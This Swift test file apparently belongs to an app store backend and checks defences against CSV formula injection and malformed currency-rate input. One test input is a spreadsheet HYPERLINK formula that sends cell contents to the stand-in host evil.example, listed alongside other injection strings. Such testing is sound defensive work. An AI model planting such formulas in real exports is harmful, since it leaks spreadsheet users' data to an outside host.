@testable import AppStoreBackend
import Foundation
import Testing

/// The third round of attacks on the backend (#53) that need no running server.
struct ThirdRoundSecurityTests {
    @Test("CSV cells a spreadsheet would run as formulas are quoted as text; numbers, negative ones too, stay numbers")
    func csvFormulasAreQuoted() {
        #expect(CSV.cell(#"=HYPERLINK("http://evil.example/?"&A1,"USD")"#) == #""'=HYPERLINK(""http://evil.example/?""&A1,""USD"")""#)
        for formula in ["+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1"] {
            #expect(CSV.cell(formula) == "\"'" + formula + "\"", "\(formula.debugDescription)")
        }
        #expect(CSV.cell("-0.99") == "-0.99" && CSV.cell("12") == "12" && CSV.cell("USD") == "USD" && CSV.cell("2026-01-01") == "2026-01-01")
        #expect(CSV.cell("a,b") == #""a,b""#)
        #expect(CSV.row(["currency", "=1", "-1.5"]) == #"currency,"'=1",-1.5"#)
    }

    @Test("rates are read strictly: trailing text, a second colon, a repeated code, an exponent or too many digits are refused (#53)")
    func strictRates() throws {
        #expect(try ReportingCurrency(currency: "USD", ratesText: "GBP:1.27, EUR:1.08").rates == ["USD": 1, "GBP": Decimal(string: "1.27")!, "EUR": Decimal(string: "1.08")!])
        #expect(try ReportingCurrency(currency: "USD", ratesText: #"{"GBP": 1.27}"#).rates["GBP"] == Decimal(string: "1.27")!)
        for bad in ["GBP:1.27abc", "GBP:1:2", "GBP:1.27,GBP:1.3", "GBP:1.27,gbp:1.3", "GBP:1e120", "GBP:-1", "GBP:+1", "GBP:1.", "GBP:.5",
                    "GBP:1234567890", "GBP:0.0000000000001", "GBP:1,", "=HYPERLINK(1):1",
                    #"{"GBP": 1.27, "GBP": 2}"#, #"{"GBP": 1e120}"#, #"{"GBP": "1.27"}"#, #"{"GBP": 1.27} x"#] {
            #expect(throws: BackendError.self, "\(bad)") { try ReportingCurrency(currency: "USD", ratesText: bad) }
        }
    }
}
